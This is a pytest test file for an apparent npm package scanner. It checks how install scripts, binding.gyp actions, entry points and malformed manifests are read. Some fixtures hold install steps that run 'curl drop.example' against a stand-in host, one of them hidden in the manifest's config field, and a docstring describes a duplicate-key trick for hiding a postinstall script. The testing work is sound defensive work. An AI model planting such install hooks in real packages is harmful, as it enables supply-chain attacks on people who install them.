"""What npm runs unasked, and where it enters a package, is read as npm reads it; what breaks the reader is said."""

from __future__ import annotations

import json
from typing import Any

import pytest

from app.core.errors import Reason
from app.core.finding import Reach
from app.core.specimen import ArtifactFacts, ArtifactKind, Fact, FactId
from tests.detectors.artifacts import Files, facts_of
from tests.worker.inspection.facts.plain_language import PLAIN


def npm(files: Files | None = None, /, **manifest: Any) -> ArtifactFacts:
    """A tarball whose code is in the plain language."""
    text = json.dumps({"name": "fast-colour", "version": "2.4.1", **manifest}, indent=2)
    return facts_of({"package.json": text, **(files or {})}, ArtifactKind.NPM_TARBALL, languages=PLAIN)


def steps(artifact: ArtifactFacts) -> list[str]:
    """Install steps as `file:line trigger: evidence`."""
    return said(artifact, FactId.INSTALL_SCRIPT)


def said(artifact: ArtifactFacts, kind: FactId) -> list[str]:
    """Facts of one kind as `file:line detail: evidence`."""
    return [
        f"{file.path}:{fact.line} {fact.detail}: {fact.evidence}"
        for file in artifact.files
        for fact in file.facts
        if fact.id is kind
    ]


def reach(artifact: ArtifactFacts) -> dict[str, Reach]:
    """Reach by path, without the manifest."""
    return {file.path: file.reach for file in artifact.files if file.path != "package.json"}


def manifest_facts(artifact: ArtifactFacts) -> tuple[Fact, ...]:
    """The facts of `package.json`."""
    return next(file.facts for file in artifact.files if file.path == "package.json")


class TestSteps:
    def test_the_three_scripts_that_an_installer_runs_are_steps_with_their_lines(self) -> None:
        found = npm(scripts={"preinstall": "a", "install": "b", "postinstall": "c", "test": "d"})
        assert steps(found) == [
            'package.json:5 preinstall: "preinstall": "a"',
            'package.json:6 install: "install": "b"',
            'package.json:7 postinstall: "postinstall": "c"',
        ]

    @pytest.mark.parametrize("name", ["prepare", "prepublish", "prepublishOnly", "prepack", "build", "dependencies"])
    def test_scripts_that_do_not_run_for_a_tarball_are_no_steps(self, name: str) -> None:
        found = npm({"x.js": "network drop.example"}, scripts={name: "node x.js"})
        assert steps(found) == []
        assert reach(found) == {"x.js": Reach.NONE}

    def test_what_a_step_starts_is_install_code_and_so_is_what_that_loads(self) -> None:
        found = npm(
            {"scripts/setup.js": "loads lib/a", "lib/a.js": "", "b.js": ""},
            scripts={"install": "node scripts/setup.js"},
        )
        assert reach(found) == {"scripts/setup.js": Reach.INSTALL, "lib/a.js": Reach.INSTALL, "b.js": Reach.NONE}

    def test_code_inside_the_command_belongs_to_the_manifest_s_line(self) -> None:
        found = npm({"lib/a.js": ""}, scripts={"postinstall": "node -e network drop.example; node -e loads lib/a"})
        network = next(fact for fact in manifest_facts(found) if fact.id is FactId.NETWORK)
        assert network.line == 5
        assert network.evidence.startswith('"postinstall": "node -e')
        assert reach(found) == {"lib/a.js": Reach.INSTALL}

    def test_scripts_that_a_step_starts_by_name_are_followed(self) -> None:
        scripts = {
            "postinstall": "npm run build && yarn later",
            "build": "node b.js",
            "prebuild": "node a.js",
            "later": "node c.js",
        }
        found = npm(dict.fromkeys(("a.js", "b.js", "c.js", "d.js"), ""), scripts=scripts | {"other": "node d.js"})
        assert list(reach(found).values()) == [Reach.INSTALL] * 3 + [Reach.NONE]
        assert len(steps(found)) == 1

    def test_scripts_that_start_each_other_come_to_an_end(self) -> None:
        assert len(steps(npm(scripts={"install": "npm run a", "a": "npm run b", "b": "npm run a"}))) == 1

    def test_a_command_hidden_in_the_manifest_s_config_is_read(self) -> None:
        found = npm(scripts={"postinstall": "$npm_package_config_cmd"}, config={"cmd": "curl drop.example"})
        assert [fact.hosts for fact in manifest_facts(found) if fact.id is FactId.NETWORK] == [("drop.example",)]

    def test_a_long_command_shows_its_head_and_its_tail(self) -> None:
        (step,) = steps(npm(scripts={"install": "echo start " + "x" * 4000 + " && curl drop.example"}))
        assert len(step) < 260
        assert "echo start" in step
        assert 'curl drop.example"' in step

    def test_bundled_packages_have_steps_too(self) -> None:
        bundled = json.dumps({"name": "x", "scripts": {"postinstall": "node x.js"}})
        found = npm({"node_modules/@s/x/package.json": bundled, "node_modules/@s/x/x.js": "", "x.js": ""})
        assert steps(found) == ['node_modules/@s/x/package.json:1 postinstall: "postinstall": "node x.js"']
        assert reach(found)["node_modules/@s/x/x.js"] == Reach.INSTALL
        assert reach(found)["x.js"] == Reach.NONE

    def test_a_manifest_in_a_folder_of_its_own_is_no_package(self) -> None:
        inner = json.dumps({"scripts": {"postinstall": "node x.js"}, "main": "deep.js"})
        assert steps(npm({"dist/esm/package.json": inner})) == []


class TestBindingGyp:
    GYP = "{'targets': [{'target_name': 'x', 'sources': ['x.cc'], # built\n 'include_dirs': [\"<!(node -e loads lib/inc)\"]}]}"

    def test_it_is_an_install_step_where_no_script_takes_its_place(self) -> None:
        found = npm({"binding.gyp": self.GYP, "lib/inc.js": ""})
        assert steps(found) == ["binding.gyp:1 binding.gyp: node-gyp rebuild"]
        assert reach(found)["lib/inc.js"] == Reach.INSTALL

    @pytest.mark.parametrize("manifest", [{"scripts": {"install": "true"}}, {"gypfile": False}])
    def test_it_is_none_where_the_manifest_says_otherwise(self, manifest: dict[str, Any]) -> None:
        found = npm({"binding.gyp": self.GYP, "lib/inc.js": ""}, **manifest)
        assert not any("binding.gyp" in step for step in steps(found))
        assert reach(found)["lib/inc.js"] == Reach.BUILD

    def test_its_actions_and_those_of_files_it_includes_are_followed(self) -> None:
        action = "{'actions': [{'action_name': 'x', 'action': ['node', 'tools/gen.js']}]}"
        found = npm(
            {"binding.gyp": "{'includes': ['deps/common.gypi']}", "deps/common.gypi": action, "tools/gen.js": ""}
        )
        assert reach(found)["tools/gen.js"] == Reach.INSTALL

    def test_escapes_in_its_strings_hide_nothing(self) -> None:
        found = npm({"binding.gyp": r"{'x': '<!(n\x6fde gen.js)'}", "gen.js": ""})
        assert reach(found)["gen.js"] == Reach.INSTALL


class TestEntries:
    def test_without_any_entry_the_index_is_one(self) -> None:
        assert reach(npm({"index.js": "", "other.js": ""})) == {"index.js": Reach.IMPORT, "other.js": Reach.NONE}

    def test_main_module_and_browser_are_entries(self) -> None:
        files = dict.fromkeys(("lib/main.js", "lib/es/index.js", "browser.js", "index.js"), "")
        found = npm(files, main="./lib/main", module="lib/es", browser={"./lib/main.js": "./browser.js", "fs": False})
        assert list(reach(found).values()) == [Reach.IMPORT] * 3 + [Reach.NONE]

    def test_exports_are_followed_through_conditions_lists_and_stars_but_not_into_types(self) -> None:
        exports = {
            ".": [{"import": {"node": "./a.mjs", "types": "./t.d.ts"}, "require": "./a.cjs"}, "./b.js"],
            "./f/*": "./f/*.js",
            "./closed": None,
        }
        files = dict.fromkeys(("a.mjs", "a.cjs", "b.js", "f/x/y.js", "t.d.ts", "index.js"), "")
        assert list(reach(npm(files, exports=exports)).values()) == [Reach.IMPORT] * 4 + [Reach.NONE] * 2

    def test_commands_have_a_name_a_line_and_code(self) -> None:
        found = npm({"cli.js": "loads lib"}, bin={"fc": "./cli.js", "fc2": "cli.js"})
        assert said(found, FactId.COMMAND_NAME) == [
            'package.json:5 fc: "fc": "./cli.js"',
            'package.json:6 fc2: "fc2": "cli.js"',
        ]
        assert reach(found)["cli.js"] == Reach.COMMAND

    def test_a_single_command_is_named_like_the_package(self) -> None:
        assert said(npm(name="@acme/colour", bin="cli.js"), FactId.COMMAND_NAME) == [
            'package.json:4 colour: "colour": "cli.js"'
        ]

    def test_a_folder_of_commands_is_listed(self) -> None:
        found = npm({"bin/go": "", "bin/stop": ""}, directories={"bin": "./bin"})
        assert [line.split()[1] for line in said(found, FactId.COMMAND_NAME)] == ["go:", "stop:"]
        assert set(reach(found).values()) == {Reach.COMMAND}

    def test_name_version_and_licence_are_kept(self) -> None:
        found = npm(license={"type": "MIT"})
        assert dict(found.metadata) == {"name": "fast-colour", "version": "2.4.1", "licence": "MIT"}


class TestBrokenManifests:
    """Group I of the bad inputs: each ends as a value with a reason, never as an exception and never as clean."""

    @pytest.mark.parametrize(
        ("content", "cause"),
        [
            (b"", "line 1"),
            (b"[]", "line 1"),
            (b"null", "line 1"),
            (b'{"name": "x"\x00}', "line 1"),
            (b'{"name": "x"} {"scripts": {}}', "more text follows"),
            (b'{\n "a": NaN}', "line 2"),
            (b'{"a": Infinity}', "line 1"),
            (b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deep"),
            (b'{"a": ' + b"9" * 5000 + b"}", "line 1"),
            ('{"name": "x"}'.encode("utf-16"), "line 1"),
            (b"{'scripts': {'postinstall': 'x'}}", "line 1"),
            (b'{"scripts": {"postinstall": "x"},}', "line 1"),
            (b'{"scripts": {"postinstall": "x"', "line 1"),
            (b'{"a": "' + b"x" * (5 << 20) + b'"}', "larger than 4 MiB"),
        ],
    )
    def test_what_npm_cannot_read_is_not_examined(self, content: bytes, cause: str) -> None:
        found = npm({"package.json": content})
        (gap,) = found.not_examined
        assert (gap.what, gap.reason) == ("package.json", Reason.MALFORMED)
        assert cause in gap.detail

    def test_a_tarball_without_a_manifest_is_not_examined(self) -> None:
        found = facts_of({"index.js": ""}, ArtifactKind.NPM_TARBALL, languages=PLAIN)
        assert [gap.reason for gap in found.not_examined] == [Reason.MALFORMED]

    def test_a_byte_order_mark_is_skipped_as_npm_does(self) -> None:
        found = npm({"package.json": b'\xef\xbb\xbf{"scripts": {"install": "x"}}'})
        assert len(steps(found)) == 1
        assert not found.not_examined

    def test_of_a_key_that_stands_twice_both_values_count_and_it_is_said(self) -> None:
        """The last one counts for npm, the first for other readers the first: a disagreement is the attack."""
        twice = b'{"scripts": {"postinstall": "node a.js"}, "scripts": {"postinstall": "true"}}'
        found = npm({"package.json": twice, "a.js": ""})
        assert len(steps(found)) == 2
        assert reach(found) == {"a.js": Reach.INSTALL}
        assert [(oddity.id, oddity.member) for oddity in found.oddities] == [("duplicate-key", "package.json")]

    def test_an_escaped_key_is_the_same_key(self) -> None:
        assert len(steps(npm({"package.json": rb'{"scr\u0069pts": {"post\u0069nstall": "x"}}'}))) == 1

    @pytest.mark.parametrize(
        "manifest",
        [
            {"scripts": ["x"]},
            {"scripts": {"postinstall": ["curl drop.example"]}},
            {"scripts": "x"},
            {"bin": {"x": 7}},
            {"bin": ["x"]},
        ],
    )
    def test_a_value_of_the_wrong_type_is_an_oddity(self, manifest: dict[str, Any]) -> None:
        found = npm(**manifest)
        assert [oddity.id for oddity in found.oddities] == ["manifest-type"]
        assert steps(found) == []

    @pytest.mark.parametrize(
        "key", ["name", "version", "main", "exports", "directories", "config", "license", "browser"]
    )
    @pytest.mark.parametrize(
        "value", [None, 7, True, [], {}, [["x"]], {"x": {"y": None}}, "\ud800", "../../x", "/", ""]
    )
    def test_no_value_of_a_field_breaks_the_reader(self, key: str, value: object) -> None:
        found = npm({"index.js": ""}, **{key: value, "scripts": {"install": "x"}})
        assert len(steps(found)) == 1

    def test_half_of_a_surrogate_pair_can_still_be_stored(self) -> None:
        found = npm({"package.json": rb'{"name": "\ud800", "bin": {"\udfff": "x"}, "scripts": {"install": "\ud800"}}'})
        for fact in manifest_facts(found):
            (fact.detail + fact.evidence).encode()
        assert dict(found.metadata)["name"] == r"\ud800"

    def test_a_hundred_thousand_scripts_come_to_an_end(self) -> None:
        scripts = {f"s{number}": "npm run s1 s2" for number in range(100_000)}
        found = npm(scripts=scripts | {"install": "npm run s1"})
        assert "install" in "".join(steps(found))
